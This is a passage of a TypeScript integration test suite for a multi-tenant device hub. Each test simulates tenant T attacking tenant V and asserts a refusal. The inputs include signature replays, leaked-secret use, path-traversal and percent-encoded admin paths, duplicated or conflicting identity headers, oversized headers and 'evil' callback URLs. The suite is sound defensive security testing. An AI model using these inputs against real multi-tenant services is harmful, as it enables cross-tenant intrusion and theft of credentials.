/**
 * Issue 14 part 7: a hostile tenant. T (an app platform and a vendor, hmac) holds only its own
 * credentials and what it can observe — its verify calls and deliveries, the hub's calls to its
 * vendor API, public endpoints, error messages — plus, where an attack says so, something of V's
 * that leaked (V's previous appSecret, V's AppID, an AccessToken, a delivery id). V's users'
 * UserIDs T does see: V's user owns a T appliance, so the hub logs that user in at T's vendor
 * API. Each `it` is one attack on tenant V and asserts the refusal; the last one checks, from
 * the database, that nothing of V's changed. Real HTTP through the hub's listener, PostgreSQL
 * and Redis (replay store, rate limits and the delivery queue shared through REDIS_URL).
 */
import { randomBytes } from "node:crypto";
import { postgresAvailable } from "@yunlian/db/testing";
import { redisAvailable, TEST_REDIS_URL } from "@yunlian/delivery/testing";
import { request } from "undici";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Answer, adminClient, platformClient, requestSignature } from "./support/client.ts";
import { startForgingProxy } from "./support/forging-proxy.ts";
import { startTestHub, type TestHub } from "./support/harness.ts";
import { type HostileWorld, runSuffix, snapshotOf, startHostileWorld } from "./support/hostile-world.ts";
import { rawRequest } from "./support/raw-http.ts";
import { selfClient } from "./support/self-client.ts";

type Headers = Record<string, string>;

/** PostgreSQL and Redis are part of what is tested: skip on a laptop without them, fail in CI. */
async function servicesOrSkip(): Promise<boolean> {
  if ((await postgresAvailable()) && (await redisAvailable())) return true;
  if (process.env.TEST_REQUIRE_SERVICES || process.env.CI)
    throw new Error(`PostgreSQL at 127.0.0.1:5432 and Redis at ${TEST_REDIS_URL} are required`);
  return false;
}

async function send(url: string, method: string, headers: Headers, body = ""): Promise<Answer> {
  const res = await request(url, { method, headers, body: body === "" ? undefined : body });
  const text = await res.body.text();
  let parsed: Record<string, unknown>;
  try {
    parsed = text ? (JSON.parse(text) as Record<string, unknown>) : {};
  } catch {
    parsed = { raw: text };
  }
  const flat: Headers = {};
  for (const [k, v] of Object.entries(res.headers)) if (v !== undefined) flat[k] = String(v);
  return { status: res.statusCode, headers: flat, body: parsed };
}

/** The Standard Webhooks headers of something the hub sent T (lower-case names). */
const signatureOf = (headers: Headers): Headers => ({
  "webhook-id": headers["webhook-id"] ?? "",
  "webhook-timestamp": headers["webhook-timestamp"] ?? "",
  "webhook-signature": headers["webhook-signature"] ?? "",
});

/** A hand-made HTTP/1.1 request: repeated and oddly spelled headers no client library sends. */
async function raw(url: string, method: string, target: string, lines: [string, string][], body = "") {
  const { host } = new URL(url);
  const head = [
    `${method} ${target} HTTP/1.1`,
    `Host: ${host}`,
    ...lines.map(([k, v]) => `${k}: ${v}`),
    "Content-Type: application/json",
    `Content-Length: ${Buffer.byteLength(body)}`,
    "Connection: close",
    "",
    "",
  ].join("\r\n");
  // Header bytes as node reads them (latin1) where every character fits, else UTF-8 as a client sends.
  const text = head + body;
  const latin1 = [...text].every((c) => (c.codePointAt(0) ?? 0) < 256);
  const answer = await rawRequest(url, Buffer.from(text, latin1 ? "latin1" : "utf8"));
  return { status: answer.status, body: JSON.parse(answer.body || "{}") as Record<string, unknown> };
}

const sigLines = (h: Headers): [string, string][] => Object.entries(h);

const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();

/** The operator signs in to the console: the session cookie its browser then holds. */
async function consoleCookie(hubUrl: string, adminToken: string): Promise<string> {
  const login = await fetch(`${hubUrl}/console/login`, {
    method: "POST",
    redirect: "manual",
    headers: { "content-type": "application/x-www-form-urlencoded", origin: hubUrl },
    body: form({ token: adminToken }),
  });
  expect(login.status).toBe(303);
  return (login.headers.get("set-cookie") ?? "").split(";")[0] ?? "";
}

let w: HostileWorld | undefined;
let before: Awaited<ReturnType<typeof snapshotOf>> | undefined;

beforeAll(async () => {
  if (!(await servicesOrSkip())) return;
  w = await startHostileWorld();
  before = await snapshotOf(w.hub.hub.database.db, w.v);
}, 120_000);
afterAll(async () => w?.close());

/** The world, or the test is skipped (no PostgreSQL/Redis on a developer machine). */
function world(ctx: { skip: () => void }): HostileWorld {
  if (!w) {
    ctx.skip();
    throw new Error("skipped");
  }
  return w;
}

/** A device-call body naming `deviceId` for `userId`. */
const deviceBody = (userId: string, deviceId: string, attrs?: Record<string, string>) =>
  JSON.stringify({
    UserID: userId,
    Device: [
      attrs
        ? { DeviceInfo: { deviceID: deviceId }, DeviceAttr: attrs }
        : { DeviceInfo: { deviceID: deviceId } },
    ],
  });

describe("tenant T attacks tenant V", () => {
  // --- signatures: directions, paths, replays -----------------------------------------------

  it("replays a hub→T verify call to POST /admin/v1/self/secret as T→hub (direction): 401", async (ctx) => {
    const { hub, t, v } = world(ctx);
    const captured = t.app.verifyCalls.at(-1);
    if (!captured) throw new Error("T saw no verify call");
    for (const platId of [t.creds.platId, v.creds.platId]) {
      const res = await send(
        `${hub.url}/admin/v1/self/secret`,
        "POST",
        { "content-type": "application/json", PlatID: platId, ...signatureOf(captured.headers) },
        captured.text,
      );
      expect(res.status).toBe(401);
      expect(res.body.RetCode).toBe("401");
      expect(res.body.appSecret).toBeUndefined();
    }
  });

  it("replays a hub→T status delivery to /v1/dataservices/dataGateway as V's vendor and as T (direction): 401", async (ctx) => {
    const { hub, t, v } = world(ctx);
    const delivery = t.app.reports.at(-1);
    if (!delivery) throw new Error("T saw no delivery");
    for (const platId of [v.vendor.platId, t.vendor.platId, t.creds.platId]) {
      const res = await send(
        `${hub.url}/v1/dataservices/dataGateway`,
        "POST",
        { "content-type": "application/json", PlatID: platId, ...signatureOf(delivery.headers) },
        delivery.text,
      );
      expect(res.status, platId).toBe(401);
      expect(res.body.RetCode).toBe("401");
    }
  });

  it("reuses the signature of GET /admin/v1/self on POST /admin/v1/self/secret (path and method): 401", async (ctx) => {
    const { hub, t } = world(ctx);
    const forGet = requestSignature(t.creds.appSecret, "GET", "/admin/v1/self", "");
    const res = await send(`${hub.url}/admin/v1/self/secret`, "POST", { PlatID: t.creds.platId, ...forGet });
    expect(res.status).toBe(401);
    expect(res.body.RetCode).toBe("401");
    expect(String(res.body.RetInfo)).toMatch(/signature/);
  });

  it("reuses a /v1/devices/op signature on /v1/user/unbindDevices with the same body (path): 401", async (ctx) => {
    const { hub, t } = world(ctx);
    const body = deviceBody(t.userId, t.washer, { laundryCycle: "2" });
    const signed = requestSignature(t.creds.appSecret, "POST", "/v1/devices/op", body);
    const headers = {
      "content-type": "application/json",
      PlatID: t.creds.platId,
      AccessToken: t.accessToken,
    };
    const res = await send(`${hub.url}/v1/user/unbindDevices`, "POST", { ...headers, ...signed }, body);
    expect(res.status).toBe(401);
    expect(res.body.RetCode).toBe("401");
  });

  it("sends the same signed request (same webhook-id) twice: the second is 401", async (ctx) => {
    const { hub, t } = world(ctx);
    const body = JSON.stringify({ UserID: t.userId });
    const headers = {
      "content-type": "application/json",
      PlatID: t.creds.platId,
      ...requestSignature(t.creds.appSecret, "POST", "/v1/users/devices", body),
    };
    const first = await send(`${hub.url}/v1/users/devices`, "POST", headers, body);
    expect(first.body.RetCode).toBe("200");
    const again = await send(`${hub.url}/v1/users/devices`, "POST", headers, body);
    expect(again.status).toBe(401);
    expect(again.body.RetCode).toBe("401");
    expect(String(again.body.RetInfo)).toMatch(/already used/);
  });

  it("re-signs a used webhook-id with a fresh timestamp: still a replay, 401", async (ctx) => {
    const { hub, t } = world(ctx);
    const body = JSON.stringify({ UserID: t.userId });
    const id = `msg_hostile_${runSuffix()}`;
    const headers = (at: Date) => ({
      "content-type": "application/json",
      PlatID: t.creds.platId,
      ...requestSignature(t.creds.appSecret, "POST", "/v1/users/devices", body, { id, at }),
    });
    expect((await send(`${hub.url}/v1/users/devices`, "POST", headers(new Date()), body)).body.RetCode).toBe(
      "200",
    );
    const later = new Date(Date.now() + 2000);
    const res = await send(`${hub.url}/v1/users/devices`, "POST", headers(later), body);
    expect(res.status).toBe(401);
    expect(res.body.RetCode).toBe("401");
  });

  it("signs with T's appSecret but names V's PlatID in the header (/v1): 401", async (ctx) => {
    const { hub, t, v } = world(ctx);
    const asV = platformClient(hub.url, { platId: v.creds.platId, appSecret: t.creds.appSecret });
    const res = await asV("users/devices", { UserID: v.userId });
    expect(res.status).toBe(401);
    expect(res.body.RetCode).toBe("401");
    expect(res.body.Device).toBeUndefined();
  });

  it("signs with T's appSecret but names V's PlatID on self-service (GET, PATCH, secret): 401", async (ctx) => {
    const { hub, t, v } = world(ctx);
    const asV = selfClient(hub.url, { platId: v.creds.platId, appSecret: t.creds.appSecret });
    for (const [method, path, body] of [
      ["GET", "", undefined],
      ["PATCH", "", { verifyUrl: "http://127.0.0.1:9/evil" }],
      ["POST", "/secret", {}],
      ["GET", "/deliveries", undefined],
    ] as const) {
      const res = await asV(method, path, body);
      expect(res.status, `${method} ${path}`).toBe(401);
      expect(res.body.RetCode).toBe("401");
    }
  });

  it("replays a captured T→hub request to a second hub instance (replay store shared through Redis): 401", async (ctx) => {
    const { hub, t, env } = world(ctx);
    const other = await startTestHub("postgres", env, { databaseUrl: hub.databaseUrl });
    try {
      const body = JSON.stringify({ UserID: t.userId });
      const headers = {
        "content-type": "application/json",
        PlatID: t.creds.platId,
        ...requestSignature(t.creds.appSecret, "POST", "/v1/users/devices", body),
      };
      expect((await send(`${hub.url}/v1/users/devices`, "POST", headers, body)).body.RetCode).toBe("200");
      const res = await send(`${other.url}/v1/users/devices`, "POST", headers, body);
      expect(res.status).toBe(401);
      expect(res.body.RetCode).toBe("401");
      expect(String(res.body.RetInfo)).toMatch(/already used/);
    } finally {
      await other.close();
    }
  });

  it("sends the hub's own PlatID and headers, seen in the hub's calls to T's vendor API, back to the hub: 401", async (ctx) => {
    const { hub, t } = world(ctx);
    const seen = t.vendor.cloud.calls.find((c) => c.headers.platid);
    if (!seen) throw new Error("T's vendor saw no call from the hub");
    const hubHeaders: Headers = { "content-type": "application/json" };
    for (const name of ["platid", "appid", "accesstoken"]) {
      const value = seen.headers[name];
      if (value) hubHeaders[name] = value;
    }
    for (const api of ["users/devices", "user/verify"]) {
      const res = await send(`${hub.url}/v1/${api}`, "POST", hubHeaders, JSON.stringify(seen.body));
      expect(res.status, api).toBe(401);
      expect(res.body.RetCode, api).toBe("401");
    }
  });

  it("T's vendor asks the hub to vouch for V's user (user/verify with V's UserID and a verify token issued for T's user): 401", async (ctx) => {
    const { hub, t, v } = world(ctx);
    const login = t.vendor.cloud.calls.find((c) => c.api === "user/login");
    const token = (login?.body as { AuthToken?: string } | undefined)?.AuthToken;
    if (!token) throw new Error("T's vendor saw no login from the hub");
    const asVendor = platformClient(hub.url, t.vendor);
    for (const loginID of [v.userId, t.userId]) {
      const res = await asVendor("user/verify", { User: [{ UserBase: { loginID } }], AuthToken: token });
      expect(res.status, loginID).toBe(401);
      expect(res.body.RetCode, loginID).toBe("401");
    }
  });

  it("uses a leaked AccessToken of V's user through T (logout, unregister, op, with V's UserID or T's): 401 or 404", async (ctx) => {
    const { t, v } = world(ctx);
    const leaked = { AccessToken: v.accessToken };
    const logout = await t.call("user/logout", {}, leaked);
    expect(logout.status).toBe(401);
    expect(logout.body.RetCode).toBe("401");
    const unregister = await t.call(
      "user/unregister",
      { User: [{ UserBase: { loginID: v.loginId, status: "2" } }] },
      leaked,
    );
    expect(unregister.status).toBe(401);
    expect(unregister.body.RetCode).toBe("401");
    const opAsT = await t.call("devices/op", deviceBody(t.userId, t.washer, { laundryCycle: "2" }), leaked);
    expect(opAsT.status).toBe(401);
    expect(opAsT.body.RetCode).toBe("401");
    const opAsV = await t.call(
      "devices/op",
      deviceBody(v.userId, v.washer, { onOffStatus: "False" }),
      leaked,
    );
    expect(opAsV.status).toBe(404);
    expect(opAsV.body.RetCode).toBe("404");
  });

  // --- a leaked, rotated-away appSecret ------------------------------------------------------

  it("uses V's leaked previous appSecret (rotated, in its grace) on self-service: 401 on GET, PATCH and POST /secret", async (ctx) => {
    const { hub, v } = world(ctx);
    const thief = selfClient(hub.url, { platId: v.creds.platId, appSecret: v.leakedAppSecret });
    for (const [method, path, body] of [
      ["POST", "/secret", {}],
      ["PATCH", "", { verifyUrl: "http://127.0.0.1:9/evil" }],
      ["GET", "", undefined],
    ] as const) {
      const res = await thief(method, path, body);
      expect(res.status, `${method} ${path}`).toBe(401);
      expect(res.body.RetCode).toBe("401");
      expect(res.body.appSecret).toBeUndefined();
    }
  });

  it("uses V's leaked previous appSecret on /v1: accepted only because the grace lasts (documented), refused as another platform", async (ctx) => {
    const { hub, t, v } = world(ctx);
    const thief = platformClient(hub.url, { platId: v.creds.platId, appSecret: v.leakedAppSecret });
    // Authenticated as V while the grace lasts (docs/security.md): a UserID nobody has is a 404, not a 401.
    const res = await thief("users/devices", { UserID: "U-NOBODY" });
    expect(res.status).toBe(404);
    expect(res.body.RetCode).toBe("404");
    // The leaked secret is V's only: it never authenticates T's PlatID.
    const crossed = platformClient(hub.url, { platId: t.creds.platId, appSecret: v.leakedAppSecret });
    expect((await crossed("users/devices", { UserID: t.userId })).body.RetCode).toBe("401");
  });

  // --- V's platform record, deliveries and the operator API ----------------------------------

  it("reads V's platform record through the operator routes with T's signature or T's appSecret as a bearer token: 401", async (ctx) => {
    const { hub, t, v } = world(ctx);
    const target = `/admin/v1/platforms/${v.creds.platId}`;
    const signed = await send(`${hub.url}${target}`, "GET", {
      PlatID: t.creds.platId,
      ...requestSignature(t.creds.appSecret, "GET", target, ""),
    });
    expect(signed.status).toBe(401);
    expect(signed.body.RetCode).toBe("401");
    for (const token of [t.creds.appSecret, t.creds.webhookSecret, t.creds.appId]) {
      const bearer = await send(`${hub.url}${target}`, "GET", { authorization: `Bearer ${token}` });
      expect(bearer.status).toBe(401);
      expect(bearer.body.RetCode).toBe("401");
      expect(bearer.body.platId).toBeUndefined();
    }
  });

  it("reaches operator routes through path tricks (dot segments, percent-encoding, case) with T's signature: 401 or 404", async (ctx) => {
    const { hub, t, v } = world(ctx);
    for (const target of [
      `/admin/v1/self/../platforms/${v.creds.platId}`,
      `/admin/v1/self/%2e%2e/platforms/${v.creds.platId}`,
      `/admin/v1/%70latforms/${v.creds.platId}`,
      `/admin/v1/self/..%2fplatforms/${v.creds.platId}`,
      `/ADMIN/v1/platforms/${v.creds.platId}`,
    ]) {
      const res = await raw(hub.url, "GET", target, [
        ["PlatID", t.creds.platId],
        ...sigLines(requestSignature(t.creds.appSecret, "GET", target, "")),
      ]);
      expect([401, 404], target).toContain(res.status);
      expect(res.body.RetCode, target).toBe(String(res.status));
      expect(res.body.appId, target).toBeUndefined();
      expect(res.body.verifyUrl, target).toBeUndefined();
    }
  });

  it("asks self-service for V's deliveries (?platId=V, ?device=V's washer): 400, or only its own", async (ctx) => {
    const { hub, t, v } = world(ctx);
    const self = selfClient(hub.url, t.creds);
    const sneaky = await self("GET", `/deliveries?platId=${v.creds.platId}`);
    expect(sneaky.status).toBe(400);
    expect(sneaky.body.RetCode).toBe("400");
    const own = await self("GET", "/deliveries");
    expect(own.status).toBe(200);
    const platIds = new Set((own.body.deliveries as { platId: string }[]).map((d) => d.platId));
    expect([...platIds]).toEqual([t.creds.platId]);
    // Filtering by V's washer finds nothing: the filter narrows T's own list.
    const byDevice = await self("GET", `/deliveries?device=${v.washer}`);
    expect(byDevice.status).toBe(200);
    expect(byDevice.body.deliveries).toEqual([]);
  });

  it("lists or replays V's deliveries through the operator routes with T's signature: 401", async (ctx) => {
    const { hub, t, v } = world(ctx);
    const vDelivery = before?.deliveries[0]?.id ?? "";
    expect(vDelivery).not.toBe("");
    for (const [method, target] of [
      ["GET", `/admin/v1/deliveries?platId=${v.creds.platId}`],
      ["GET", `/admin/v1/deliveries/${vDelivery}`],
      ["POST", `/admin/v1/deliveries/${vDelivery}/replay`],
      ["POST", "/admin/v1/deliveries/replay"],
      ["GET", `/admin/v1/audit?actor=platform:${v.creds.platId}`],
      ["GET", `/admin/v1/devices/${v.washer}`],
    ] as const) {
      const body = method === "POST" ? JSON.stringify({ platId: v.creds.platId }) : "";
      const res = await send(
        `${hub.url}${target}`,
        method,
        {
          "content-type": "application/json",
          PlatID: t.creds.platId,
          ...requestSignature(t.creds.appSecret, method, target, body),
        },
        body,
      );
      expect(res.status, target).toBe(401);
      expect(res.body.RetCode, target).toBe("401");
    }
  });

  it("claims V's certificate fingerprint through self-service PATCH: 409", async (ctx) => {
    const { hub, t, v } = world(ctx);
    const res = await selfClient(hub.url, t.creds)("PATCH", "", {
      security: { certFingerprints: [v.fingerprint.toUpperCase()] },
    });
    expect(res.status).toBe(409);
    expect(res.body.RetCode).toBe("409");
    expect(String(res.body.RetInfo)).not.toContain(v.creds.platId);
  });

  // --- V's users and their devices -----------------------------------------------------------

  it("binds V's user's washer (bound through V) to T's user: in FailedIDs, V's vendor never asked", async (ctx) => {
    const { t, v } = world(ctx);
    const vendorCalls = v.vendor.cloud.calls.length;
    const res = await t.call("user/bindDevices", {
      UserID: t.userId,
      Device: [{ DeviceInfo: { deviceID: v.washer } }],
    });
    expect(res.status).toBe(200);
    expect(res.body.RetCode).toBe("200");
    expect(res.body.FailedIDs).toEqual([v.washer]);
    expect(String(res.body.RetInfo)).toMatch(/already bound through platform .* not granted/);
    expect(v.vendor.cloud.calls.length).toBe(vendorCalls);
  });

  it("names V's UserID in T's bindDevices body: 404, the user is not T's", async (ctx) => {
    const { t, v } = world(ctx);
    // T learnt it: the hub logged V's user in at T's vendor API (V's user owns a T appliance).
    const logins = t.vendor.cloud.calls.filter((c) => c.api === "user/login");
    const loginIds = logins.map(
      (c) => (c.body as { User?: { UserBase?: { loginID?: string } }[] }).User?.[0]?.UserBase?.loginID,
    );
    expect(loginIds).toContain(v.userId);
    const res = await t.call("user/bindDevices", {
      UserID: v.userId,
      Device: [{ DeviceInfo: { deviceID: v.vendor.deviceIds[1] ?? v.washer } }],
    });
    expect(res.status).toBe(404);
    expect(res.body.RetCode).toBe("404");
  });

  it("operates V's washer as T's user with T's own AccessToken: 403, V's vendor never asked", async (ctx) => {
    const { t, v } = world(ctx);
    const vendorCalls = v.vendor.cloud.calls.length;
    const res = await t.call("devices/op", deviceBody(t.userId, v.washer, { onOffStatus: "False" }), {
      AccessToken: t.accessToken,
    });
    expect(res.status).toBe(403);
    expect(res.body.RetCode).toBe("403");
    expect(v.vendor.cloud.calls.length).toBe(vendorCalls);
  });

  it("operates V's washer naming V's UserID with T's user's AccessToken: 404", async (ctx) => {
    const { t, v } = world(ctx);
    const res = await t.call("devices/op", deviceBody(v.userId, v.washer, { onOffStatus: "False" }), {
      AccessToken: t.accessToken,
    });
    expect(res.status).toBe(404);
    expect(res.body.RetCode).toBe("404");
  });

  it("reads the status of V's washer as T's user: 403; its info only as a stranger may (no binding fields)", async (ctx) => {
    const { t, v } = world(ctx);
    const status = await t.call("devices/deviceStatus", deviceBody(t.userId, v.washer));
    expect(status.status).toBe(403);
    expect(status.body.RetCode).toBe("403");
    expect(status.body.Device).toBeUndefined();
    // deviceInfo is the one call allowed before binding (standard 7.2.4, issue 15): what the device
    // is, never what V's user made of it — every field beyond table 11 comes back null.
    const info = await t.call("devices/deviceInfo", deviceBody(t.userId, v.washer));
    expect(info.body.RetCode).toBe("200");
    const [entry] = info.body.Device as { DeviceInfo: Record<string, unknown> }[];
    expect(entry?.DeviceInfo.deviceID).toBe(v.washer);
    const tableEleven = new Set([
      "deviceID",
      "deviceIDType",
      "deviceType",
      "model",
      "manufacturer",
      "brand",
      "accessWay",
    ]);
    for (const [key, value] of Object.entries(entry?.DeviceInfo ?? {})) {
      if (!tableEleven.has(key)) expect(value, key).toBeNull();
    }
  });

  it("renames V's washer (modifyDeviceInfo) as T's user: 403", async (ctx) => {
    const { t, v } = world(ctx);
    const res = await t.call("devices/modifyDeviceInfo", {
      UserID: t.userId,
      Device: [{ DeviceInfo: { deviceID: v.washer, brand: "pwned" } }],
    });
    expect(res.status).toBe(403);
    expect(res.body.RetCode).toBe("403");
  });

  it("unbinds V's washer as T's user: in FailedIDs (not bound to this user), V's vendor never asked", async (ctx) => {
    const { t, v } = world(ctx);
    const vendorCalls = v.vendor.cloud.calls.length;
    const res = await t.call("user/unbindDevices", deviceBody(t.userId, v.washer));
    expect(res.body.RetCode).toBe("200");
    expect(res.body.FailedIDs).toEqual([v.washer]);
    expect(String(res.body.RetInfo)).toMatch(/not bound to this user/);
    expect(v.vendor.cloud.calls.length).toBe(vendorCalls);
  });

  it("reads, unbinds and operates naming V's UserID (users/devices, deviceStatus, unbindDevices, modifyDeviceInfo): 404 each", async (ctx) => {
    const { t, v } = world(ctx);
    for (const [api, body] of [
      ["users/devices", JSON.stringify({ UserID: v.userId })],
      ["devices/deviceStatus", deviceBody(v.userId, v.washer)],
      ["user/unbindDevices", deviceBody(v.userId, v.washer)],
      [
        "devices/modifyDeviceInfo",
        JSON.stringify({ UserID: v.userId, Device: [{ DeviceInfo: { deviceID: v.washer, brand: "x" } }] }),
      ],
    ] as const) {
      const res = await t.call(api, body);
      expect(res.status, api).toBe(404);
      expect(res.body.RetCode, api).toBe("404");
    }
  });

  it("puts V's PlatID in the body, disagreeing with the header, with V's UserID: 404 (the header's platform acts)", async (ctx) => {
    const { t, v } = world(ctx);
    const res = await t.call("users/devices", {
      PlatID: v.creds.platId,
      PlateID: v.creds.platId,
      UserID: v.userId,
    });
    expect(res.status).toBe(404);
    expect(res.body.RetCode).toBe("404");
    expect(String(res.body.RetInfo)).toContain(t.creds.platId);
  });

  it("logs V's user's loginID in through T's own verify endpoint: a different hub user, who cannot reach V's washer", async (ctx) => {
    const { t, v } = world(ctx);
    const login = await t.call("user/login", {
      User: [{ UserBase: { loginID: v.loginId } }],
      AuthToken: "t-says-so",
    });
    expect(login.body.RetCode).toBe("200");
    const impostor = (login.body.User as { UserBase: { userID: string } }[])[0]?.UserBase.userID ?? "";
    expect(impostor).not.toBe(v.userId);
    const op = await t.call("devices/op", deviceBody(impostor, v.washer, { onOffStatus: "False" }), {
      AccessToken: login.headers.accesstoken ?? "",
    });
    expect(op.status).toBe(403);
    expect(op.body.RetCode).toBe("403");
  });

  // --- status reports ------------------------------------------------------------------------

  it("T's vendor reports status for V's washer (another manufacturer code): 403, nothing stored or delivered", async (ctx) => {
    const { t, v } = world(ctx);
    const res = await t.vendor.cloud.pushReport({
      DeviceID: v.washer,
      DeviceStatus: { onOffStatus: "False" },
    });
    expect(res.status).toBe(403);
    expect(JSON.parse(res.text).RetCode).toBe("403");
    // T's app platform (no manufacturer code at all) neither.
    const report = v.vendor.cloud.buildReport({ DeviceID: v.washer, DeviceStatus: { onOffStatus: "False" } });
    const fromApp = await t.call("dataservices/dataGateway", report);
    expect(fromApp.status).toBe(403);
    expect(fromApp.body.RetCode).toBe("403");
  });

  it("T's vendor API answers V's user's deviceInfo and users/devices with forged entries for V's washer: only what each vendor was asked about is kept", async (ctx) => {
    const { hub, t, v } = world(ctx);
    // T re-points its own API at a proxy that appends V's washer, with T's story, to every answer.
    const forged = { deviceID: v.washer, brand: "T-FORGED", model: "forged", deviceType: "02002001" };
    const proxy = await startForgingProxy(t.vendor.cloud.url, (api, answer) =>
      (api === "devices/deviceInfo" || api === "users/devices") && Array.isArray(answer.Device)
        ? { ...answer, Device: [...answer.Device, { DeviceInfo: forged }] }
        : answer,
    );
    const self = selfClient(hub.url, t.vendor);
    try {
      expect((await self("PATCH", "", { apiBaseUrl: proxy.url })).status).toBe(200);
      // V's user asks about both its appliances, V's washer first: T's vendor answers last.
      const info = await v.call("devices/deviceInfo", {
        UserID: v.userId,
        Device: [{ DeviceInfo: { deviceID: v.washer } }, { DeviceInfo: { deviceID: v.foreignDevice } }],
      });
      expect(info.body.RetCode).toBe("200");
      const infos = (info.body.Device as { DeviceInfo: { deviceID: string } }[]).map((d) => d.DeviceInfo);
      expect(infos.map((i) => i.deviceID)).toEqual([v.washer, v.foreignDevice]);
      expect(JSON.stringify(infos)).not.toContain("T-FORGED");
      const list = await v.call("users/devices", { UserID: v.userId });
      expect(list.body.RetCode).toBe("200");
      const listed = (list.body.Device as { DeviceInfo: { deviceID: string } }[]).map((d) => d.DeviceInfo);
      expect(listed.map((i) => i.deviceID).sort()).toEqual([v.washer, v.foreignDevice].sort());
      expect(JSON.stringify(listed)).not.toContain("T-FORGED");
    } finally {
      await self("PATCH", "", { apiBaseUrl: t.vendor.cloud.url });
      await proxy.close();
    }
  });

  it("impersonates V's vendor (mode none) by its PlatID alone, and with T's AppID: 401", async (ctx) => {
    const { hub, t, v } = world(ctx);
    const report = JSON.stringify(
      v.vendor.cloud.buildReport({ DeviceID: v.washer, DeviceStatus: { onOffStatus: "False" } }),
    );
    const extras: Headers[] = [{}, { AppID: t.creds.appId }, { AppID: t.vendor.appId }];
    for (const extra of extras) {
      const res = await send(
        `${hub.url}/v1/dataservices/dataGateway`,
        "POST",
        { "content-type": "application/json", PlatID: v.vendor.platId, ...extra },
        report,
      );
      expect(res.status).toBe(401);
      expect(res.body.RetCode).toBe("401");
    }
    const self = await selfClient(hub.url, { platId: v.vendor.platId })("PATCH", "", {
      apiBaseUrl: "http://127.0.0.1:9/evil",
    });
    expect(self.status).toBe(401);
    expect(self.body.RetCode).toBe("401");
  });

  // --- models --------------------------------------------------------------------------------

  it("reads V's vendor's models: its own list holds only its own; the operator's model routes are 401", async (ctx) => {
    const { hub, t, v } = world(ctx);
    const own = await selfClient(hub.url, t.vendor)("GET", "/models");
    expect(own.status).toBe(200);
    for (const m of own.body.models as { ownerPlatId: string }[]) expect(m.ownerPlatId).toBe(t.vendor.platId);
    for (const target of ["/admin/v1/models", `/admin/v1/models/${v.vendor.platId}/02002`]) {
      const res = await send(`${hub.url}${target}`, "GET", {
        PlatID: t.vendor.platId,
        ...requestSignature(t.vendor.appSecret, "GET", target, ""),
      });
      expect(res.status, target).toBe(401);
      expect(res.body.RetCode, target).toBe("401");
    }
  });

  it("publishes a model for V's device type: 401 naming V as owner; its own model applies to its own devices only", async (ctx) => {
    const { hub, t, v } = world(ctx);
    const model = {
      deviceType: "02002",
      nameZh: "洗衣机",
      nameEn: "washer",
      attributes: [
        { name: "laundryCycle", type: "int", min: 1, max: 1, writable: true, zh: "程序", en: "programme" },
        { name: "onOffStatus", type: "bool", writable: false, zh: "开关", en: "power" },
      ],
    };
    const operatorRoute = JSON.stringify({ ...model, ownerPlatId: v.vendor.platId });
    const asOwner = await send(
      `${hub.url}/admin/v1/models`,
      "POST",
      {
        "content-type": "application/json",
        PlatID: t.vendor.platId,
        ...requestSignature(t.vendor.appSecret, "POST", "/admin/v1/models", operatorRoute),
      },
      operatorRoute,
    );
    expect(asOwner.status).toBe(401);
    expect(asOwner.body.RetCode).toBe("401");
    // Through self-service the model is T's own, whatever deviceType it names …
    const published = await selfClient(hub.url, t.vendor)("POST", "/models", model);
    expect(published.status).toBe(201);
    expect(published.body.ownerPlatId).toBe(t.vendor.platId);
    // … it refuses T's devices' commands, never V's.
    const tOp = await t.call("devices/op", deviceBody(t.userId, t.washer, { laundryCycle: "3" }), {
      AccessToken: t.accessToken,
    });
    expect(tOp.body.RetCode).toBe("400");
    const vOp = await v.call("devices/op", deviceBody(v.userId, v.washer, { laundryCycle: "3" }), {
      AccessToken: v.accessToken,
    });
    expect(vOp.body.RetCode).toBe("200");
  });

  // --- header smuggling, oversized and malformed headers ------------------------------------

  it("sends PlatID twice (T's, then V's) with T's signature: 401", async (ctx) => {
    const { hub, t, v } = world(ctx);
    const body = JSON.stringify({ UserID: v.userId });
    for (const order of [
      [t.creds.platId, v.creds.platId],
      [v.creds.platId, t.creds.platId],
    ]) {
      const res = await raw(
        hub.url,
        "POST",
        "/v1/users/devices",
        [
          ["PlatID", order[0] ?? ""],
          ["PlatID", order[1] ?? ""],
          ...sigLines(requestSignature(t.creds.appSecret, "POST", "/v1/users/devices", body)),
        ],
        body,
      );
      expect(res.status).toBe(401);
      expect(res.body.RetCode).toBe("401");
    }
  });

  it("sends PlatID and PlateID disagreeing (T's signature): never V — 401 as V, 404 for V's user as T", async (ctx) => {
    const { hub, t, v } = world(ctx);
    const body = JSON.stringify({ UserID: v.userId });
    const sign = () => sigLines(requestSignature(t.creds.appSecret, "POST", "/v1/users/devices", body));
    // PlatID wins over PlateID whatever the order: T's signature does not verify as V.
    for (const lines of [
      [["PlateID", t.creds.platId], ["PlatID", v.creds.platId], ...sign()],
      [["PlatID", v.creds.platId], ["PlateID", t.creds.platId], ...sign()],
    ] as [string, string][][]) {
      const res = await raw(hub.url, "POST", "/v1/users/devices", lines, body);
      expect(res.status).toBe(401);
      expect(res.body.RetCode).toBe("401");
    }
    // Authenticated as T (PlatID), PlateID V changes nothing: V's user is not T's.
    const asT = await raw(
      hub.url,
      "POST",
      "/v1/users/devices",
      [["PlateID", v.creds.platId], ["PlatID", t.creds.platId], ...sign()],
      body,
    );
    expect(asT.status).toBe(404);
    expect(asT.body.RetCode).toBe("404");
  });

  it("sends V's AppID with T's PlatID and signature: 401", async (ctx) => {
    const { t, v } = world(ctx);
    const res = await t.call("users/devices", { UserID: t.userId }, { AppID: v.creds.appId });
    expect(res.status).toBe(401);
    expect(res.body.RetCode).toBe("401");
    expect(String(res.body.RetInfo)).not.toContain(v.creds.platId);
  });

  it("sends a 16 KiB header, and a 15 KiB AccessToken of quotes: 431 and 400 naming the header", async (ctx) => {
    const { hub, t } = world(ctx);
    const huge = await raw(hub.url, "POST", "/v1/users/devices", [
      ["PlatID", t.creds.platId],
      ["X-Padding", "a".repeat(16 * 1024)],
    ]);
    expect(huge.status).toBe(431);
    expect(huge.body.RetCode).toBe("400");
    const quotes = await raw(hub.url, "POST", "/v1/users/devices", [
      ["PlatID", t.creds.platId],
      ["AccessToken", `'x${'"'.repeat(15 * 1024)}y`],
    ]);
    expect(quotes.status).toBe(400);
    expect(quotes.body.RetCode).toBe("400");
    expect(String(quotes.body.RetInfo)).toMatch(/AccessToken/);
  });

